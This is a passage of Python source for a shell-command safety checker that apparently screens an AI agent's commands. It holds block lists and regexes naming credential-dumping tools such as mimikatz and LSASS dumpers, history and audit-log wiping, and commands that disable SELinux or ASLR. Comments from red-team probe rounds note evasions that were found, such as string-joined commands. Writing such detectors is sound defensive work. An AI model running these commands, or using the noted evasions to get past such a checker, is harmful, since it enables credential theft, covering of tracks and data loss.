# a shell's or a REPL's history file, which an intruder empties or deletes
_HISTORY_FILE = re.compile(r"(?i)(?:^|/)(?:\.(?:bash|zsh|sh|ksh|mysql|psql|python|node_repl|sqlite|rediscli|irb|"
                           r"php|scala|lesshst)_history|\.zhistory|\.zsh_sessions|fish_history|consolehost_history\.txt)$|"
                           # (.history in a project is VS Code's Local History: only the home's)
                           r"^(?:~|\$\{?home\}?|/home/[^/]+|/users/[^/]+|/root)/\.history$")
# the system's own record of who logged in and what ran (auth logs, the audit trail, wtmp)
_AUDIT_LOG = re.compile(r"^/var/(?:log/(?:audit(?:/.*)?|auth\.log[^/]*|secure[^/]*|wtmp[^/]*|btmp[^/]*|lastlog|"
                        r"faillog|syslog[^/]*|messages[^/]*|journal(?:/.*)?|sudo\.log[^/]*)|run/utmp)/?$")
_HISTORY_WIPERS = frozenset({"rm", "shred", "unlink", "truncate", "srm", "wipe", "ln", "cp", "mv", "dd", "sysctl"})
# (probe round 33, residuals34) kernel protections a sysctl turns off: ptrace of any process
# (reading its memory), address-space randomisation, the link protections
_WEAK_SYSCTL = re.compile(r"(?i)^(?:kernel\.yama\.ptrace_scope|kernel\.randomize_va_space|fs\.protected_(?:symlinks|"
                          r"hardlinks|regular|fifos)|kernel[./]kptr_restrict|kernel\.modules_disabled)\s*=\s*0$")
# the files that hold those controls' state, and the text that turns them off
_CONTROL_FILES = frozenset({"/sys/fs/selinux/enforce", "/proc/sys/kernel/yama/ptrace_scope",
                            "/proc/sys/kernel/randomize_va_space", "/etc/selinux/config", "/etc/sysctl.conf"})
_CONTROL_OFF_TEXT = re.compile(r"(?i)(?<!s/)(?<!s\|)(?<!s#)(?<!s/\^)(?<!s\|\^)(?<!s#\^)"   # (not sed's pattern side)
                               r"\bselinux\s*=\s*(?:disabled|permissive)\b|(?:ptrace_scope|randomize_va_space|"
                               r"protected_(?:symlinks|hardlinks))\s*=\s*0\b")


_CONTROL_SWITCHES = ("/sys/fs/selinux/enforce", "/proc/sys/kernel/yama/ptrace_scope", "/proc/sys/kernel/randomize_va_space")
_ZERO_WORD = re.compile(r"(?<![\w.=-])0(?![\w.])")


def control_off_written(paths: list[str], leaves: list[str]) -> tuple[str, str] | None:
    """(probe round 35, tools35) A file tool's write that turns a security control off, as
    Bash's echo SELINUX=disabled > /etc/selinux/config is (bash_findings): a control's file
    given the text that disables it, or a control's switch given 0. ``leaves`` are the
    text written (not the path, not what an edit removes)."""
    text = "\n".join(leaves)
    for p in paths:
        if p in _CONTROL_FILES or p.startswith("/etc/sysctl.d/"):
            if _CONTROL_OFF_TEXT.search(text) or p in _CONTROL_SWITCHES and _ZERO_WORD.search(text):
                return "security_control_off", "SELinux or a kernel protection turned off"
    return None


def history_wiped(name: str, argv: tuple[str, ...], redirects) -> str | None:
    """A shell history file deleted, shredded, emptied or linked to /dev/null."""
    ops = [a for a in argv[1:] if not a.startswith("-")]
    if name == "sysctl":
        return "a kernel protection turned off (sysctl)" if any(_WEAK_SYSCTL.match(o) for o in ops) else None
    if name in ("rm", "shred", "unlink", "truncate", "srm", "wipe") and any(_HISTORY_FILE.search(o) for o in ops):
        return "a shell history file deleted or emptied"
    if name in ("rm", "shred", "unlink", "truncate", "srm", "wipe") and any(_AUDIT_LOG.match(o) for o in ops):
        return "the system's login or audit log deleted or emptied"
    if name in ("ln", "cp", "mv") and len(ops) >= 2 and _HISTORY_FILE.search(ops[-1]) and \
            ops[0] in ("/dev/null", "/dev/zero"):
        return "a shell history file replaced by /dev/null"
    if name == "dd" and any(a.startswith("of=") and _HISTORY_FILE.search(a[3:]) for a in argv[1:]):
        return "a shell history file overwritten"
    for r in redirects:
        if r.writes and r.op in (">", ">|", "&>") and r.target and _HISTORY_FILE.search(r.target):
            return "a shell history file emptied"
        if r.writes and r.op in (">", ">|", "&>") and r.target and _AUDIT_LOG.match(r.target):
            return "the system's login or audit log emptied"
    return None


# (probe round 33, residuals34) credential dumping: the operating system's stores of other
# users' and services' secrets read out wholesale (LSASS' memory, the SAM/SECURITY hives, a
# keychain's passwords, another process' memory). Denied in every mode: no everyday task needs it.
_DUMPERS = frozenset({"mimikatz", "mimikatz64", "pypykatz", "lazagne", "secretsdump", "impacket-secretsdump",
                      "secretsdump.py", "mimipenguin", "mimipenguin.py", "mimipenguin.sh", "unshadow", "lsassy",
                      "nanodump", "handlekatz", "dumpert", "outflank-dumpert", "gsecdump", "pwdump", "pwdump7",
                      "fgdump", "wce", "invoke-mimikatz", "out-minidump", "invoke-powerdump", "get-gpppassword",
                      "lazagne.py", "lazagne.exe", "invoke-ninjacopy", "dploot", "donpapi", "sharpchrome",
                      "sharpdpapi", "seatbelt", "safetykatz", "sharpkatz", "hackbrowserdata", "firefox_decrypt",
                      "firefox_decrypt.py", "chrome-decrypt", "3snake"})
_LSASS_DUMPERS = frozenset({"procdump", "procdump64", "sqldumper", "createdump", "rdrleakdiag", "dumpminitool",
                            "tttracer", "minidump", "gcore", "gdb", "lldb"})
_SECRET_PROCESSES = re.compile(r"(?i)(?:^|[\\/\s=])(?:lsass|sshd|ssh-agent|gpg-agent|gnome-keyring-daemon|keepassxc?|"
                               r"1password|bitwarden|chrome|chromium|firefox|msedge|brave|safari|securityd|secd|"
                               r"lastpass|kwalletd\d*)(?:\.exe)?(?:$|[\s)'\"])")
_DUMP_PROGRAMS = _DUMPERS | _LSASS_DUMPERS | frozenset({"rundll32", "reg", "security", "esentutl", "ntdsutil",
                                                         "reg-save-hive", "netsh"})
_TEXT_TOOLS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "git", "gh", "awk", "sed", "jq", "less", "more", "man"})
_MIMIKATZ_COMMAND = re.compile(r"(?i)(?:^|[\s\"'])(?:sekurlsa|lsadump|dpapi|vault|kerberos|crypto|token|misc)::"
                               r"(?:logonpasswords|sam|secrets|cache|dcsync|lsa|cred|masterkey|chrome|ekeys|"
                               r"tickets|msv|wdigest|kerberos|tspkg|pth|golden|list|export|elevate|memssp|skeleton|"
                               r"minidump|process|backupkeys|trust|setntlm|changentlm|netsync|zerologon)")
_OTHER_PROCESS_MEMORY = re.compile(r"^/proc/(?!self/|thread-self/)[^/]+/(?:task/[^/]+/)?mem$")
_HIVE = re.compile(r"(?i)^(?:hklm|hkey_local_machine)\\?(?:sam|security|system)$")


def credential_dump(name: str, args: tuple[str, ...]) -> str | None:
    """A credential store read out wholesale, or None (name in lower case)."""
    low = [a.lower() for a in args]
    stem = name.rsplit(".", 1)[0] if name.endswith((".exe", ".py", ".ps1", ".sh")) else name
    if name in _DUMPERS or stem in _DUMPERS or ":" in stem and any(
            stem.endswith(d) for d in _DUMPERS if len(d) >= 6):   # (C:\Tools\mimikatz.exe as bash reads it)
        return f"a credential dumping tool ({name})"
    if name.startswith(("python", "pwsh", "powershell")):
        ops = [a for a in low if not a.startswith("-")]
        if ops and ops[0].replace("\\", "/").rsplit("/", 1)[-1] in _DUMPERS:
            return "a credential dumping tool (" + ops[0] + ")"
        return None
    if name in _LSASS_DUMPERS:
        if name in ("gdb", "lldb") and not any(a in ("-p", "--pid", "attach", "--attach-pid", "--attach-name", "-n")
                                               or a.startswith(("--pid=", "--attach")) for a in args):
            return None   # (gdb --args out/chrome: a program started under the debugger, not attached)
        if any(_SECRET_PROCESSES.search(a) for a in args):
            return "the memory of a process holding secrets (LSASS, sshd, an agent, a browser) dumped"
        return None
    if name == "rundll32":
        j = " ".join(low)
        if "comsvcs" in j and ("minidump" in j or "#24" in j):
            return "LSASS' memory dumped (comsvcs.dll MiniDump)"
        return None
    if name == "reg-save-hive":
        return "the SAM, SECURITY or SYSTEM hive saved (the machine's password hashes)"
    if name == "reg":
        if low[:1] and low[0] in ("save", "export") and len(low) > 1 and _HIVE.match(low[1].replace("\\", "")
                                                                                       .replace("/", "")):
            return "the SAM, SECURITY or SYSTEM hive saved (the machine's password hashes)"
        return None
    if name == "security":
        if low[:1] in (["dump-keychain"],) and "-d" in low:
            return "a keychain's secrets dumped"
        if low[:1] and low[0] in ("find-generic-password", "find-internet-password") and any(
                a in ("-w", "-g") or (a.startswith("-") and not a.startswith("--") and ("w" in a or "g" in a)
                                      and len(a) <= 4 and a not in ("-s", "-a")) for a in args):
            # (a browser's Safe Storage key decrypts every saved password and cookie, as the
            # infostealers read it; an item the user names, -s github -w, is a secret read as
            # pass show or op read is: asked. No item named at all: whatever comes first)
            if any("safe storage" in a or a in ("chrome", "chromium", "brave", "opera", "microsoft edge",
                                                  "vivaldi", "arc") for a in low):
                return "a browser's Safe Storage key printed (it decrypts every saved password)"
            if not any(a.startswith("-") and not a.startswith("--") and any(c in a for c in "salcdrDj")
                       for a in args):
                return "a keychain password printed, no item named"
        return None
    if name == "netsh":
        if "wlan" in low and any(a.replace(" ", "") == "key=clear" for a in low):
            return "the saved Wi-Fi passwords printed (netsh wlan ... key=clear)"
        return None
    if name == "esentutl" and ("ntds" in " ".join(low) or any(re.search(r"config[\\/]?(?:sam|security|system)$", a)
                                                                for a in low)):
        return "the domain's password database (ntds.dit) copied"
    if name == "ntdsutil" and "ifm" in " ".join(low):
        return "the domain's password database (ntds.dit) copied"
    return None


# (probe round 32) an HTTP API's request that erases every index, database or key: DELETE
# /_all or /* (Elasticsearch, OpenSearch), a _delete_by_query over all indices, a Redis
# REST proxy's FLUSHALL/FLUSHDB (as redis-cli flushall is)
_HTTP_CLIENTS = frozenset({"curl", "wget", "http", "https", "xh", "xhs", "curlie"})
HTTP_ALL_TARGET = re.compile(r"(?i)^/+(?:_all|\*|%2a)(?:/+|$)|^/*(?:_all|\*|%2a)/*$")
HTTP_FLUSH = re.compile(r"(?i)(?:^|/)(?:flushall|flushdb|flush_all|flush_db)(?:$|[/?#])")
_HTTP_METHODS = frozenset({"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "PURGE"})


def http_path_erases_all(method: str, path: str) -> str | None:
    """Why METHOD PATH (an address's path) erases every index, database or key, or None."""
    path = path.split("?", 1)[0].split("#", 1)[0]
    if HTTP_FLUSH.search(path):
        return f"{method} {path}: every key of a database flushed"
    if method == "DELETE" and HTTP_ALL_TARGET.search(path):
        return f"DELETE {path}: every index or database deleted"
    head, sep, _ = path.partition("_delete_by_query")
    if sep and HTTP_ALL_TARGET.search(head.rstrip("/") + "/"):
        return f"{method} {path}: every document of every index deleted"
    return None


def _http_erases_all(name: str, args: Sequence[str]) -> str | None:
    method = "GET"
    urls: list[str] = []
    i = 0
    while i < len(args):
        a = args[i]
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if name in ("curl", "curlie") and a in ("-X", "--request"):
            method, i = nxt.upper(), i + 2
            continue
        if name in ("curl", "curlie") and (a.startswith("-X") and len(a) > 2 or a.startswith("--request=")):
            method = a.split("=", 1)[1].upper() if a.startswith("--") else a[2:].upper()
        elif name == "wget" and a.startswith("--method="):
            method = a.split("=", 1)[1].upper()
        elif name == "wget" and a == "--method":
            method, i = nxt.upper(), i + 2
            continue
        elif a == "--url":
            urls.append(nxt)
            i += 2
            continue
        elif name not in ("curl", "curlie", "wget") and a.upper() in _HTTP_METHODS and not urls:
            method = a.upper()   # (httpie, xh: http DELETE es:9200/_all)
        elif not a.startswith("-") and ("://" in a or name not in ("curl", "curlie", "wget") or re.match(
                r"[\w.-]+(?::\d+)?/", a)):
            urls.append(a)
        i += 1
    for u in urls:
        rest = u.split("://", 1)[1] if "://" in u else u
        k = rest.find("/")
        what = http_path_erases_all(method, rest[k:] if k >= 0 else "/") if k >= 0 else None
        if what:
            return what
    return None


_VERSION_FLAGS = frozenset({"-v", "-V", "--version", "-version"})
# what, in a program given on the command line, runs more code (stdin's text included)
_EVALS = re.compile(r"\b(?:exec|eval|compile|system|popen|spawn|subprocess|child_process|Function|require|"
                    r"import_module|__import__|loadstring|dofile|runpy|os\.|qx|shell_exec|passthru|proc_open|Kernel|IO\.)\b|"
                    r"(?<![\w.])(?:load|do)\s*[(\"']|`")


def _own_code(cmd: SimpleCommand) -> bool:
    """Does an interpreter (not a shell) run only what its command line holds: a version
    query (python3 --version), or a -c/-e program that runs nothing else
    (curl -s localhost:8000/api | python3 -c "import json,sys; print(json.load(sys.stdin))")?"""
    args = cmd.argv[1:]
    if cmd.name in SHELLS or cmd.dynamic_args:
        return False
    if args and all(a in _VERSION_FLAGS for a in args):
        return True
    if len(args) >= 2 and args[0] in ("-c", "-e", "--eval") and not any(a.startswith("-") for a in args[2:]):
        return _EVALS.search(args[1]) is None
    if cmd.name == "deno" and args and args[0] == "eval":
        # (probe round 34, residuals35) deno eval [-p] CODE, as node -e CODE
        code = _deno_eval_code(cmd.argv)
        return code is not None and _EVALS.search(code) is None
    return False


def _deno_eval_code(argv: Sequence[str]) -> str | None:
    """deno eval's CODE past its printing, quiet and --ext options (probe round 34,
    differential7: deno eval -p CODE was read at -p); None with any other option."""
    rest: list[str] = []
    k = 2
    while k < len(argv):
        a = argv[k]
        if a == "--ext":
            k += 2
            continue
        if a.startswith("-") and a not in ("-p", "--print", "-q", "--quiet") and not a.startswith("--ext="):
            return None
        if not a.startswith("-"):
            rest.append(a)
        k += 1
    return rest[0] if len(rest) == 1 else None


def _own_code_text(cmd: SimpleCommand) -> str:
    """The code word of an interpreter's own program (``_own_code``): deno eval's past its
    options, the word after -c/-e otherwise."""
    if cmd.name == "deno" and tuple(cmd.argv[1:2]) == ("eval",):
        return _deno_eval_code(cmd.argv) or cmd.argv[2]
    return cmd.argv[2]


_ACTIVATE = re.compile(r"(?:\./)?(?:[\w.-]+/)?bin/activate(?:\.(?:sh|bash|zsh))?")


def _venv_activate(cmd: SimpleCommand) -> bool:
    """source .venv/bin/activate: a virtualenv's activate script below the working
    directory (it sets PATH and a prompt; the command's text is not handed to it)."""
    ops = [a for a in cmd.argv[1:] if not a.startswith("-")]
    return cmd.name in ("source", ".") and len(ops) == 1 and 1 not in cmd.dynamic_args and \
        _ACTIVATE.fullmatch(ops[0]) is not None


def _program_from_stream(cmd: SimpleCommand) -> bool:
    """Does the command run what a stream holds? crontab / at / batch (what they are
    given runs later); make -f <(...), awk -f /dev/stdin, sed -f - (the program is that text)."""
    if cmd.name in SCHEDULERS:
        return not (set(cmd.argv[1:]) & _SCHEDULER_QUERIES)
    return cmd.name in PROGRAM_FILE_READERS and any(a == "-" or "/" in a and _STREAM_WORD.fullmatch(a) for a in cmd.argv[1:])


_CODE_FLAGS = frozenset({"-c", "-e", "-E", "--eval"})   # (the interpreters' code options)


def _launches_code(argv: tuple[str, ...]) -> bool:
    """Does an argument name a shell or an interpreter followed by a code option?"""
    for k in range(1, len(argv) - 1):
        if argv[k + 1] in _CODE_FLAGS and posixpath.basename(argv[k]) in INTERPRETERS:   # (cheap test first)
            return True
    return False


def _runs_a_file_written_here(analysis: BashAnalysis) -> bool:
    """echo 'rm -rf ~' > x.sh && sh x.sh: a file written and then run by the same command."""
    written = any(r.writes for c in analysis.commands for r in c.redirects) or any(
        c.name in ("tee", "cp", "mv", "install", "dd", "sponge") for c in analysis.commands)
    if not written:
        return False
    for c in analysis.commands:
        if c.name in SHELLS or c.name in ("source", ".", "exec") or "/" in (c.written[0] if c.written else ""):
            return True
        # (probe round 32, redteam32b) a shell behind a runner (npx sh x, uv run bash x); a
        # file read as a makefile or program (make -f x, awk -f x); a file that is the
        # standard input of what runs its lines (parallel < x, ssh host < x)
        if any(posixpath.basename(a) in SHELLS for a in c.argv[1:-1]) \
                or c.name in PROGRAM_FILE_READERS and any(a.startswith(("-f", "--file", "--makefile")) for a in c.argv[1:]) \
                or c.name in ("parallel", "ssh") and any(not r.writes for r in c.redirects):
            return True
        if c.name in INTERPRETERS and any(not a.startswith("-") for a in c.argv[1:]) and not (
                # (probe round 32) python3 -c 'print("...")' > out.txt: the word after -c is
                # its program, no file it runs (what the program itself runs: _own_code)
                c.name not in SHELLS and len(c.argv) > 2 and c.argv[1] in _CODE_FLAGS and _own_code(c)):
            return True
    return False


# a file that runs later by its kind: a script, a start-up file, a recipe, a hook, a crontab
_RUNS_LATER_FILE = re.compile(
    r"(?i)\.(?:sh|bash|zsh|ksh|fish|command|py|pl|rb|js|mjs|cjs|ts|php|ps1|bat|cmd|service|timer)$"
    r"|(?:^|/)\.(?:bash|zsh|ksh|mk|tcsh|c)rc$|(?:^|/)\.(?:bash_|z)?profile$|(?:^|/)\.(?:bash_login|zshenv|zlogin)$"
    r"|(?:^|/)(?:makefile|gnumakefile|justfile|dockerfile|crontab|authorized_keys)$|(?:^|/)\.(?:husky|githooks)/"
    # (probe round 32, differential5 and redteam32b) files another program runs or reads
    # commands from, however the path is spelled (> .git/hooks/pre-commit had no leading
    # slash): a hook or git's settings, .envrc (direnv), ssh's config and rc, CI pipelines,
    # package.json's scripts, VS Code's tasks
    r"|(?:^|/)\.git/(?:.*/)?(?:hooks/|config$)|(?:^|/)\.gitconfig$|(?:^|/)\.envrc$|(?:^|/)\.ssh/(?:config|rc)$"
    r"|(?:^|/)\.github/workflows/|(?:^|/)\.gitlab-ci\.ya?ml$|(?:^|/)package\.json$|(?:^|/)\.vscode/tasks\.json$"
    r"|^/etc/|^/var/spool/cron|^~/\.config/(?:autostart|systemd)/")


def _output_piped(text: str, c: SimpleCommand, cmds: Sequence[SimpleCommand] = ()) -> bool:
    """Is this command's output piped on, or written to a file that runs later by its kind
    (> x.sh, >> ~/.bashrc), or is its text not found exactly once? Through tee into
    files only (| tee out.txt), it is not."""
    if c.in_substitution or not c.text or text.count(c.text) != 1:
        return True
    if any(r.writes and (r.target is None or _RUNS_LATER_FILE.search(r.target)) for r in c.redirects) \
            or c.name == "tee" and any(_RUNS_LATER_FILE.search(a) for a in c.argv[1:] if not a.startswith("-")):
        return True
    rest = text[text.find(c.text) + len(c.text):].lstrip(" \t")
    if not rest.startswith("|") or rest.startswith("||"):
        return False
    after = rest[1:].lstrip(" \t")
    nxt = next((d for d in cmds if d.name == "tee" and not d.wrappers and d.text and after.startswith(d.text)), None)
    return nxt is None or _output_piped(text, nxt, cmds)


def _hands_text_to_interpreter(analysis: BashAnalysis) -> bool:
    if _runs_a_file_written_here(analysis):
        return True
    for cmd in analysis.commands:
        name = cmd.name
        if cmd.dynamic_name or (name in CODE_RUNNERS and not _venv_activate(cmd)):
            return True
        if _program_from_stream(cmd):
            return True
        if name not in INTERPRETERS and _launches_code(cmd.argv):
            return True   # unshare sh -c '...', fakeroot bash -c '...': a launcher the analysis does not know
        # (probe round 36, coldbash36: every stream path holds a "/", tested first)
        if name not in STREAM_DATA_READERS and any("/" in a and _STREAM_WORD.fullmatch(a) for a in cmd.argv[1:]):
            return True   # another program given a stream by name: it may be its program
        if name in INTERPRETERS:
            rest = cmd.argv[1:]
            if name == "perl" and not cmd.dynamic_args and perl_substitutes_only(rest):
                continue   # perl -pi -e 's/chmod 777/chmod 750/': sed's substitution, data
            if _own_code(cmd):
                continue   # python3 --version; python3 -c "print(json.load(sys.stdin))": its own code (below)
            operands = [a for a in rest if not a.startswith("-")]
            if not operands or any(a in ("-c", "-e", "-E", "-", "-s", "--eval", "-r") for a in rest) \
                    or name == "deno" and rest[:1] == ("eval",):
                return True   # ((probe round 34, residuals36) deno eval CODE: node -e CODE)
    return False


# Commands whose arguments and input are text they store or move, never SQL they run or
# an address they open: a pipe into psql, a python -c, a remote exec are not among them.
_TEXT_INERT = frozenset({"echo", "printf", "cat", "tee", "touch", "mkdir", "cp", "mv", "head", "tail", "wc", "sort",
                         "uniq", "diff", "grep", "egrep", "fgrep", "rg", "jq", "cd", "ls", "true", ":", "test", "["})
_GIT_TEXT_INERT = frozenset({"commit", "tag", "merge", "stash", "notes", "log", "show", "add", "status", "diff",
                             "checkout", "switch", "branch", "restore", "blame"})
_GH_TEXT_INERT = frozenset({"pr", "issue", "release"})


# (probe round 31, residuals31) what, in AppleScript's or MongoDB's JavaScript shell's code,
# may run a command (do shell script, child_process, runProgram, load, eval...): without it
# a string in that code is data (osascript -e 'display dialog "rm -rf ~"')
RUNS_A_COMMAND = re.compile(r"(?i)do\s+shell|shell\s*script|doShellScript|run\s+script|\bdo\s+script|"
                            r"child_process|exec|spawn|system|popen|fork|runProgram|run\w*Program|\brun\s*\(|"
                            r"require|import|load|eval|Function|process|Application|\$\(|`|\[|\\u|\\x")


def _text_inert(cmd: SimpleCommand, file_command: bool = False) -> bool:
    """Does this command only store or move text (a message, a file's content)? Nothing
    in front of it (GIT_EDITOR='psql ...' git commit), no option that runs a program."""
    if cmd.dynamic_name or cmd.env or cmd.wrappers:
        return False
    if cmd.name == "git":
        glob, sub, sub_args, ok = git_split_t(cmd.argv[1:])
        # (-F - and --file: the message read from a file or standard input, a here-document)
        return ok and sub in _GIT_TEXT_INERT and not any(
            a.startswith(("-x", "--ex", "--up", "--rec", "--template", "-t")) for a in sub_args)
    if cmd.name == "sed":
        return file_command   # sed -i with a script that only substitutes (no e, w, r)
    if cmd.name == "perl":
        return not cmd.dynamic_args and perl_substitutes_only(cmd.argv[1:])
    if cmd.name in ("awk", "gawk", "mawk", "nawk"):
        # a program that only prints (awk '{print "DROP TABLE " $1 ";"}' t > drop.sql)
        return not cmd.dynamic_args and awk_runs_nothing(cmd.argv[1:])
    if cmd.name == "gh":
        return len(cmd.argv) > 2 and cmd.argv[1] in _GH_TEXT_INERT and cmd.argv[2] in (
            "create", "edit", "comment", "close", "reopen", "review", "merge")
    if cmd.name in INTERPRETERS and cmd.name not in SHELLS and not cmd.dynamic_args \
            and literal_print(cmd.name, cmd.argv[1:]):
        return True   # (probe round 32) python3 -c 'print("DROP TABLE t")' > q.sql: as echo
    if cmd.name == "osascript":
        # AppleScript that shows or says text and runs no command (display dialog, notification)
        return not cmd.dynamic_args and not any(RUNS_A_COMMAND.search(a) for a in cmd.argv[1:]) \
            and all(a in ("-e", "-s", "h", "o", "s", "-ss") or not a.startswith("-") for a in cmd.argv[1:])
    return cmd.name in _TEXT_INERT


# wrappers that run the command as it is, with nothing of their own to run
_QUIET_WRAPPERS = frozenset({"timeout", "nice", "nohup", "time", "command", "stdbuf", "ionice"})


def _quiet(cmd: SimpleCommand, file_command: bool) -> bool:
    """Do this command's words stay words? It stores or moves text (a message, echo) or
    only reads, runs nothing it is given and writes no file something later in the line
    may run; or it is git push/pull/fetch to a remote by name with no option that runs a
    program. (A build or a test is not: its words may reach a script.)"""
    if cmd.dynamic_name or cmd.name in ("tee", "cp", "mv") \
            or any(r.writes for r in cmd.redirects) or not _QUIET_WRAPPERS.issuperset(cmd.wrappers):
        return False
    if cmd.wrappers:
        cmd = dataclasses.replace(cmd, wrappers=())   # (timeout 60 git commit -m ...)
    if _text_inert(cmd, file_command):
        return True
    if cmd.env or cmd.dynamic_args:
        return False
    args = cmd.argv[1:]
    if cmd.name == "git":
        # (push, pull and fetch to a remote by name; a URL is an address)
        _glob, sub, sub_args, ok = git_split_t(args)
        return ok and sub in ("push", "pull", "fetch") and not any(
            "://" in a or "@" in a or a.startswith(("-x", "--ex", "--up", "--rec", "--receive", "-r"))
            for a in sub_args)
    # (not a build or a test: its words may reach a script, npm run migrate -- "DROP TABLE x")
    return read_only(cmd.name, args, False)


# (probe round 31, redteam31c) string literals an interpreter's code joins at run time:
# "r" + "m -rf ~" (Python, JavaScript, Ruby), "r" . "m" (Perl, PHP), "r" & "m" (AppleScript),
# "r" .. "m" (Lua), "r" "m" (Python's juxtaposition); and its arguments' literals, "rm",
# "-rf", "/" (system's list, print's and console.log's arguments), joined by a blank
_LITERAL_JOIN = re.compile(r"""(?<!\\)["'`]\s*(?:\+|\.\.?|&|<<)?\s*["'`]""")
_LITERAL_LIST = re.compile(r"""(?<!\\)["'`]\s*,\s*["'`]""")


# (probe round 33) a module or attribute named by a string: __import__('os'),
# importlib.import_module("shutil"), getattr(os, 'system')
_IMPORT_CALL = re.compile(r"""\b(?:__import__|importlib\s*\.\s*import_module)\s*\(\s*(["'])([\w.]+)\1\s*\)""")
_GETATTR_CALL = re.compile(r"""\bgetattr\s*\(\s*([\w.]+)\s*,\s*(["'])(\w+)\2\s*\)""")


def joined_literals(code: str) -> list[str]:
    """The code with modules and attributes named by strings written as names
    (__import__('os').environ, getattr(os, 'system')), then its adjacent string literals
    joined (by an operator, then also at a comma with a blank), each only when it differs
    from the code before; [] when none does."""
    if len(code) > 100_000 or not any(q in code for q in "\"'`"):
        return []
    out = []
    if "import" in code or "getattr" in code:
        named = _GETATTR_CALL.sub(r"\1.\3", _IMPORT_CALL.sub(r"\2", code))
        if named != code:
            out.append(named)
            code = named
    joined = _LITERAL_JOIN.sub("", code)
    if joined != code:
        if "import" in joined or "getattr" in joined:
            # (probe round 47, interp47) a name joined first: getattr(shutil, "rm" + "tree")
            joined = _GETATTR_CALL.sub(r"\1.\3", _IMPORT_CALL.sub(r"\2", joined))
        out.append(joined)
    listed = _LITERAL_LIST.sub(" ", joined)
    if listed != joined:
        out.append(listed)
    return out


def _loud_text(analysis: BashAnalysis) -> str:
    """The command's text with the words of its quiet commands blanked out (each found
    once in the text, not piped into a command that is not quiet)."""
    text = analysis.command
    cmds = [c for c in analysis.commands if not c.in_substitution]   # (a substitution's words are its command's)
    quiet = [_quiet(c, analysis.file_command) for c in cmds]
    loud_subs: list[str] | None = None
    for k, c in enumerate(cmds):
        if not quiet[k] or _piped_on(text, c, cmds, k, quiet):
            continue   # (echo 'DROP TABLE x' | psql: what it prints is run)
        i = text.find(c.text)
        text = text[:i] + " " * len(c.text) + text[i + len(c.text):]
        if "$(" in c.text or "`" in c.text or "<(" in c.text:
            # (probe round 32, redteam32) echo $(mongosh --eval 'db.dropDatabase()'): a
            # substitution in a quiet command's words runs; its text stays, unless quiet too
            if loud_subs is None:
                loud_subs = [s.text for s in analysis.commands
                             if s.in_substitution and s.text and not _quiet(s, analysis.file_command)]
            for t in loud_subs:
                j = c.text.find(t)
                if j >= 0:
                    text = text[:i + j] + t + text[i + j + len(t):]
    for k, c in enumerate(cmds):
        # a test runner's selector (pytest -k "drop table", jest -t, go test -run) is a
        # pattern matched against test names, never run or sent
        values = _test_selectors(c)
        if not c.dynamic_name and c.name in AGENT_PROMPT_PROGRAMS:
            # (probe round 34, benign38) an AI agent's or LLM's prompt (claude -p 'explain
            # rm -rf ~', llm 'what does DELETE FROM users do'): text for a model, not run
            args = list(c.argv[1:])
            values = values + [args[j] for j in sorted(agent_prompt_indices(c.name, args))]
        elif not c.dynamic_name and c.name in PACKAGE_RUNNERS:
            # (probe round 35, residuals37) the same program started from its npm package
            # (npx @anthropic-ai/claude-code -p 'explain rm -rf ~')
            args = list(c.argv[1:])
            hit = runner_agent(c.name, args, official=True)
            if hit is not None and hit[0] in AGENT_PROMPT_PROGRAMS:
                k = hit[1] + 1
                values = values + [args[k + j] for j in sorted(agent_prompt_indices(hit[0], args[k:]))]
        if not values or _piped_on(text, c, cmds, k, quiet):
            continue
        for v in values:
            if v and text.count(v) == 1:
                i = text.find(v)
                text = text[:i] + " " * len(v) + text[i + len(v):]
    return text


# a test runner's options whose value selects tests by name or marker
_TEST_SELECTOR_OPTS = frozenset({"-k", "-m", "-t", "--testNamePattern", "--test-name-pattern", "-run", "--run",
                                 "-skip", "--grep", "-g", "--fgrep", "-f"})
_TEST_RUNNERS = frozenset({"pytest", "py.test", "jest", "vitest", "mocha", "go", "npm", "yarn", "pnpm", "npx",
                           "bun", "tox", "python", "python3"})


def _test_selectors(cmd: SimpleCommand) -> list[str]:
    """The values of a test run's selector options (pytest -k EXPR, python -m pytest -m
    EXPR, jest -t NAME, npm test -- -t NAME, go test -run RE); none for other programs."""
    if cmd.dynamic_name or cmd.name not in _TEST_RUNNERS:
        return []
    args = list(cmd.argv[1:])
    if cmd.name in ("python", "python3"):
        if args[:2] != ["-m", "pytest"]:
            return []
        args = args[2:]
    if cmd.name == "go" and args[:1] != ["test"]:
        return []
    if cmd.name in ("npm", "yarn", "pnpm", "bun") and args[:1] != ["test"]:
        return []
    if cmd.name == "npx" and args[:1] not in (["jest"], ["vitest"], ["mocha"], ["pytest"]):
        return []
    out = []
    for j, a in enumerate(args):
        if a in _TEST_SELECTOR_OPTS and j + 1 < len(args):
            out.append(args[j + 1])
        elif a.startswith("-") and "=" in a and a.split("=", 1)[0] in _TEST_SELECTOR_OPTS:
            out.append(a.split("=", 1)[1])
    return out


def _piped_on(text: str, c: SimpleCommand, cmds: list, k: int, quiet: list) -> bool:
    """Is this command's output piped into a command that is not quiet (or is its text
    not found exactly once, so that it cannot be blanked)?"""
    if not c.text or text.count(c.text) != 1:
        return True
    rest = text[text.find(c.text) + len(c.text):].lstrip(" \t")
    return rest.startswith("|") and not rest.startswith("||") and not (k + 1 < len(cmds) and quiet[k + 1])


_SOCKET_DEVICE = re.compile(r"/dev/+(?:tcp|udp)/|\bztcp\b")


_REDIS_ALL = frozenset({"*", "**", "*:*"})


def _redis_every_key_deleted(cmds: tuple[SimpleCommand, ...]) -> bool:
    """(probe round 49, redteam49) redis-cli --scan (no --pattern, or *) or KEYS * piped to a
    client's DEL/UNLINK through xargs: FLUSHDB spelled as a pipeline."""
    listed = deleted = False
    for c in cmds:
        if c.name not in REDIS_CLIENTS:
            continue
        argv = c.argv
        low = [a.lower() for a in argv[1:]]
        if "--scan" in low:
            k = low.index("--pattern") if "--pattern" in low else -1
            listed = listed or k < 0 or (k + 1 < len(low) and low[k + 1] in _REDIS_ALL)
        elif "keys" in low:
            k = low.index("keys")
            listed = listed or (k + 1 < len(low) and low[k + 1] in _REDIS_ALL)
        if "xargs" in c.wrappers and any(w in ("del", "unlink") for w in low):
            deleted = True
    return listed and deleted


def bash_findings(analysis: BashAnalysis, *, home: str | None) -> tuple[str, str, str] | None:
    """(code, reason, part) of the first destructive finding of a parsed command."""
    if analysis.catastrophic:
        f = analysis.catastrophic[0]
